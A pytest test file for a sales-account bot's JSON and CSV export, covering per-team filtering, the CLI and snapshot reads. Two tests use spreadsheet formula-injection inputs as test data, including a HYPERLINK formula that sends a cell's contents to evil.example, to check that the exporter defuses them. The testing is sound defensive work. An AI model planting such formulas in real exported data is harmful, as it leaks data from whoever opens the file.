"""rapport export: every table of an account's history, as CSV files or one JSON document."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from bot.app.cli import main
from bot.services import export
from storage.db import SessionFactory
from storage.models import (
    Account,
    AccountKpi,
    CheckIn,
    ClientQuestion,
    Commitment,
    Concession,
    ConcessionRevision,
    Debrief,
    DebriefFollowup,
    GovernancePlan,
    MesoOffer,
    MesoSet,
    NegotiationPrep,
    Qbr,
    Rating,
    Touch,
)
from tests.conftest import at
from tests.slackkit import ALICE, BOB, OTHER_TEAM, TEAM

WHEN = at("2026-11-20T14:30:00")


def seed_account(db: SessionFactory, *, team: str, name: str, owner: str) -> int:
    """One account with a row in every table an export writes."""
    with db.begin() as s:
        account = Account(
            team_id=team,
            key=name.casefold(),
            name=name,
            owner_id=owner,
            created_by=owner,
            created_at=WHEN,
            relationship_type="strategic",
            channel_id="C0DEALS",
            expectations="straight answers; no lunches",
        )
        s.add(account)
        s.flush()
        concession = Concession(
            team_id=team,
            account=account,
            give="5% discount",
            get="24-month term",
            logged_by=owner,
            logged_at=WHEN,
        )
        s.add(concession)
        s.flush()
        s.add(
            ConcessionRevision(
                team_id=team,
                concession_id=concession.id,
                change="edited",
                give="3% discount",
                changed_by=owner,
                changed_at=WHEN,
            )
        )
        meso = MesoSet(
            team_id=team,
            account=account,
            created_by=owner,
            created_at=WHEN,
            tolerance_pct=5.0,
            value_period="year",
            shared_at=WHEN,
        )
        meso.offers = [
            MesoOffer(team_id=team, position=i, label=label, terms=terms, value_to_us=100.0)
            for i, (label, terms) in enumerate([("A", "annual, 10 seats"), ("B", "2 years")])
        ]
        s.add(meso)
        commitment = Commitment(
            team_id=team,
            account=account,
            owner_id=owner,
            what="send the security questionnaire",
            due_on=date(2026, 11, 27),
            due_at=at("2026-11-28T00:00:00"),
            created_by=owner,
            created_at=WHEN,
            kept_on_time=True,
        )
        s.add(commitment)
        s.add(Qbr(team_id=team, account_id=account.id, next_on=date(2027, 1, 15), created_by=owner))
        checkin = CheckIn(team_id=team, account_id=account.id, due_on=date(2026, 12, 1), label="7d")
        s.add(checkin)
        s.add(Touch(team_id=team, account_id=account.id, user_id=owner, note="coffee", at=WHEN))
        s.flush()
        s.add(
            Rating(
                team_id=team,
                account_id=account.id,
                kind="nps",
                score=9,
                checkin_id=checkin.id,
                recorded_by=owner,
                recorded_at=WHEN,
            )
        )
        s.add(
            AccountKpi(
                team_id=team,
                account_id=account.id,
                kind="renewal",
                day=date(2027, 3, 31),
                recorded_by=owner,
                recorded_at=WHEN,
            )
        )
        s.add(
            ClientQuestion(
                team_id=team,
                account_id=account.id,
                question="is SSO in the base plan?",
                owner_id=owner,
                asked_at=WHEN,
                norm_minutes=240,
                reply_by=at("2026-11-20T18:30:00"),
                recorded_by=owner,
                recorded_at=WHEN,
            )
        )
        seed_coaching(s, account, owner, commitment)
        return account.id


def seed_coaching(s: Session, account: Account, owner: str, commitment: Commitment) -> None:
    """The account's coaching history: a prep, a governance plan, a debrief and a step
    accepted from it."""
    team = account.team_id
    s.add(
        NegotiationPrep(
            team_id=team,
            account=account,
            question="will they sign for two years?",
            our_batna="the mid-market pipeline",
            reservation_value=110_000.0,
            value_period="year",
            people=[{"role": "CFO", "cares": "cash flow", "decides": True}],
            our_issues=["term", "price"],
            we_can_give=["training days"],
            opened_by=owner,
            opened_at=WHEN,
            updated_by=owner,
            updated_at=WHEN,
        )
    )
    s.add(
        GovernancePlan(
            team_id=team,
            account=account,
            cadence="monthly",
            owner_ids=[owner],
            kpis="uptime 99.9%",
            created_by=owner,
            created_at=WHEN,
            updated_by=owner,
            updated_at=WHEN,
        )
    )
    debrief = Debrief(
        team_id=team,
        account=account,
        next_meso="a three-year option",
        by_user=owner,
        at=WHEN,
        view_id=f"V{account.id}",
    )
    s.add(debrief)
    s.flush()
    s.add(
        DebriefFollowup(
            team_id=team,
            debrief_id=debrief.id,
            step="rehearse",
            commitment_id=commitment.id,
            accepted_by=owner,
            accepted_at=WHEN,
        )
    )


def exported_json(engine: Engine, team: str | None) -> dict[str, list[dict[str, object]]]:
    out = io.StringIO()
    with export.snapshot(engine) as session:
        export.write_json(session, out, team_id=team)
    loaded: dict[str, list[dict[str, object]]] = json.loads(out.getvalue())
    return loaded


def test_json_holds_a_list_per_table_for_one_team(db: SessionFactory, engine: Engine) -> None:
    acme = seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    seed_account(db, team=OTHER_TEAM, name="Globex", owner=BOB)

    doc = exported_json(engine, TEAM)

    assert list(doc) == [
        "accounts",
        "concessions",
        "concession_revisions",
        "meso_sets",
        "commitments",
        "qbrs",
        "checkins",
        "touches",
        "ratings",
        "account_kpis",
        "client_questions",
        "negotiation_preps",
        "governance_plans",
        "debriefs",
        "debrief_followups",
    ]
    [account] = doc["accounts"]
    assert (account["renewal_on"], account["repeat_purchases"]) == ("2027-03-31", 0)
    assert account["name"] == "Acme" and account["owner_id"] == ALICE
    assert account["created_at"] == "2026-11-20T14:30:00Z"
    assert account["expectations"] == "straight answers; no lunches"
    for table, rows in doc.items():
        assert len(rows) == 1, table
        assert rows[0]["team_id"] == TEAM, table
        if table != "accounts":
            assert (rows[0]["account_id"], rows[0]["account_name"]) == (acme, "Acme"), table
    [meso] = doc["meso_sets"]
    assert [(o["label"], o["terms"]) for o in meso["offers"]] == [  # type: ignore[attr-defined]
        ("A", "annual, 10 seats"),
        ("B", "2 years"),
    ]
    [commitment] = doc["commitments"]
    assert commitment["due_on"] == "2026-11-27" and commitment["kept_on_time"] is True
    assert doc["concession_revisions"][0]["give"] == "3% discount"
    assert doc["ratings"][0]["score"] == 9
    assert "Globex" not in json.dumps(doc) and BOB not in json.dumps(doc)


def test_json_carries_the_coaching_history(db: SessionFactory, engine: Engine) -> None:
    seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    seed_account(db, team=OTHER_TEAM, name="Globex", owner=BOB)

    doc = exported_json(engine, TEAM)

    [meso] = doc["meso_sets"]
    assert (meso["value_period"], meso["shared_at"]) == ("year", "2026-11-20T14:30:00Z")
    [prep] = doc["negotiation_preps"]
    assert prep["question"] == "will they sign for two years?"
    assert (prep["reservation_value"], prep["value_period"]) == (110_000.0, "year")
    assert prep["people"] == [{"role": "CFO", "cares": "cash flow", "decides": True}]
    assert prep["our_issues"] == ["term", "price"] and prep["their_issues"] == []
    [plan] = doc["governance_plans"]
    assert (plan["cadence"], plan["owner_ids"]) == ("monthly", [ALICE])
    [debrief] = doc["debriefs"]
    assert (debrief["next_meso"], debrief["by_user"]) == ("a three-year option", ALICE)
    [step] = doc["debrief_followups"]
    assert (step["debrief_id"], step["step"]) == (debrief["id"], "rehearse")
    assert step["commitment_id"] == doc["commitments"][0]["id"]
    [question] = doc["client_questions"]
    assert question["question"] == "is SSO in the base plan?"
    assert question["reply_by"] == "2026-11-20T18:30:00Z" and question["answered_at"] is None


def test_json_without_a_team_has_every_team(db: SessionFactory, engine: Engine) -> None:
    seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    seed_account(db, team=OTHER_TEAM, name="Globex", owner=BOB)

    doc = exported_json(engine, None)

    assert {(a["team_id"], a["name"]) for a in doc["accounts"]} == {
        (TEAM, "Acme"),
        (OTHER_TEAM, "Globex"),
    }
    assert len(doc["touches"]) == 2


def test_an_empty_database_exports_empty_lists(db: SessionFactory, engine: Engine) -> None:
    doc = exported_json(engine, TEAM)
    assert doc["accounts"] == [] and doc["meso_sets"] == []


def test_a_meso_set_without_offers_keeps_an_empty_list(db: SessionFactory, engine: Engine) -> None:
    acme = seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    with db.begin() as s:
        s.add(
            MesoSet(
                team_id=TEAM, account_id=acme, created_by=ALICE, created_at=WHEN, tolerance_pct=5
            )
        )
    sets = exported_json(engine, TEAM)["meso_sets"]
    assert [len(m["offers"]) for m in sets] == [2, 0]  # type: ignore[arg-type]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_writes_one_file_per_table_with_headers(
    db: SessionFactory, engine: Engine, tmp_path: Path
) -> None:
    seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    seed_account(db, team=OTHER_TEAM, name="Globex", owner=BOB)

    with export.snapshot(engine) as session:
        counts = export.write_csv(session, tmp_path / "out", team_id=OTHER_TEAM)

    files = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert files == sorted(f"{t.name}.csv" for t in export.TABLES)
    assert counts["meso_offers"] == 2 and counts["accounts"] == 1
    [account] = read_csv(tmp_path / "out" / "accounts.csv")
    assert (account["team_id"], account["name"], account["owner_id"]) == (OTHER_TEAM, "Globex", BOB)
    assert account["won_at"] == "" and account["created_at"] == "2026-11-20T14:30:00Z"
    offers = read_csv(tmp_path / "out" / "meso_offers.csv")
    assert [(o["account_name"], o["label"]) for o in offers] == [("Globex", "A"), ("Globex", "B")]
    [commitment] = read_csv(tmp_path / "out" / "commitments.csv")
    assert commitment["kept_on_time"] == "true" and commitment["account_name"] == "Globex"
    for table in export.TABLES:
        text = (tmp_path / "out" / f"{table.name}.csv").read_text(encoding="utf-8")
        assert text.splitlines()[0] == ",".join(table.columns())
        assert "Acme" not in text and ALICE not in text, table.name


@pytest.fixture
def cli_env(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, database_url: str, settings: object
) -> None:
    monkeypatch.chdir(tmp_path)  # no stray .env
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.delenv("SLACK_BOT_TOKEN", raising=False)


def test_cli_exports_json_to_stdout_and_csv_to_a_directory(
    db: SessionFactory, cli_env: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    seed_account(db, team=OTHER_TEAM, name="Globex", owner=BOB)

    assert main(["export", "--format", "json", "--team", TEAM, "-"]) == 0
    out, err = capsys.readouterr()
    assert [a["name"] for a in json.loads(out)["accounts"]] == ["Acme"]
    assert "exported 1 accounts" in err
    assert "1 negotiation_preps, 1 governance_plans, 1 debriefs, 1 debrief_followups" in err

    assert main(["export", "--format", "csv", str(tmp_path / "csv")]) == 0
    assert len(read_csv(tmp_path / "csv" / "accounts.csv")) == 2
    assert "to " + str(tmp_path / "csv") in capsys.readouterr().out

    assert main(["export", "--format", "json", str(tmp_path / "json" / "all.json")]) == 0
    assert len(json.loads((tmp_path / "json" / "all.json").read_text())["accounts"]) == 2
    assert [p.name for p in (tmp_path / "json").iterdir()] == ["all.json"]

    assert main(["export", "--format", "csv", "-"]) == 2
    assert "directory" in capsys.readouterr().err


def test_export_help_says_what_it_writes(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    text = " ".join(capsys.readouterr().out.split())
    for words in (
        "accounts",
        "MESO sets",
        "commitments",
        "QBRs",
        "check-ins",
        "client questions",
        "negotiation preps",
        "governance plans",
        "debriefs",
        "one file per",
    ):
        assert words in text


def test_the_export_reads_a_snapshot_without_holding_up_writers(
    db: SessionFactory, engine: Engine, database_url: str
) -> None:
    from sqlalchemy import func, select

    from storage.db import make_engine, make_session_factory

    seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    # The bot's own process: a second engine, as `rapport serve` would have.
    bot = make_engine(database_url)
    try:
        with export.snapshot(engine) as session:
            counted = select(func.count()).select_from(Account)
            assert session.scalar(counted) == 1
            with make_session_factory(bot).begin() as writer:
                writer.add(
                    Account(
                        team_id=TEAM,
                        key="globex",
                        name="Globex",
                        owner_id=BOB,
                        created_by=BOB,
                        created_at=WHEN,
                    )
                )
            assert session.scalar(counted) == 1, "one instant for every table"
    finally:
        bot.dispose()
    assert len(exported_json(engine, TEAM)["accounts"]) == 2


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Open")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Open")',
        ),
        ("+1 415 555 0100", "'+1 415 555 0100"),
        ("-5% discount", "'-5% discount"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("two free seats", "two free seats"),
        ("it's = fine inside", "it's = fine inside"),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
    db: SessionFactory, engine: Engine, tmp_path: Path, typed: str, written: str
) -> None:
    account_id = seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    with db.begin() as s:
        s.add(
            Concession(
                team_id=TEAM, account_id=account_id, give=typed, logged_by=ALICE, logged_at=WHEN
            )
        )

    with export.snapshot(engine) as session:
        export.write_csv(session, tmp_path / "out", team_id=TEAM)

    gives = [row["give"] for row in read_csv(tmp_path / "out" / "concessions.csv")]
    assert written in gives
    assert export.restore_formula(written) == typed


def test_csv_defuses_formulas_in_the_coaching_history_too(
    db: SessionFactory, engine: Engine, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("https://evil.example","Open")'
    acme = seed_account(db, team=TEAM, name="Acme", owner=ALICE)
    with db.begin() as s:
        prep = s.scalars(select(NegotiationPrep).where(NegotiationPrep.account_id == acme)).one()
        prep.question, prep.our_issues = evil, [evil, "price"]
        s.scalars(select(GovernancePlan)).first().kpis = "+1 call a week"  # type: ignore[union-attr]
        s.scalars(select(Debrief)).first().next_meso = "-10% for three years"  # type: ignore[union-attr]
        s.scalars(select(ClientQuestion)).one().question = "@finance: net 60?"

    with export.snapshot(engine) as session:
        export.write_csv(session, tmp_path / "out", team_id=TEAM)

    [prep_row] = read_csv(tmp_path / "out" / "negotiation_preps.csv")
    assert prep_row["question"] == "'" + evil
    # A list is one cell of JSON text: it starts with `[`, never as a formula does.
    assert json.loads(prep_row["our_issues"]) == [evil, "price"]
    assert json.loads(prep_row["people"])[0]["role"] == "CFO"
    [plan_row] = read_csv(tmp_path / "out" / "governance_plans.csv")
    assert plan_row["kpis"] == "'+1 call a week" and json.loads(plan_row["owner_ids"]) == [ALICE]
    [debrief_row] = read_csv(tmp_path / "out" / "debriefs.csv")
    assert debrief_row["next_meso"] == "'-10% for three years"
    [question_row] = read_csv(tmp_path / "out" / "client_questions.csv")
    assert question_row["question"] == "'@finance: net 60?"
    [meso_row] = read_csv(tmp_path / "out" / "meso_sets.csv")
    assert (meso_row["value_period"], meso_row["shared_at"]) == ("year", "2026-11-20T14:30:00Z")
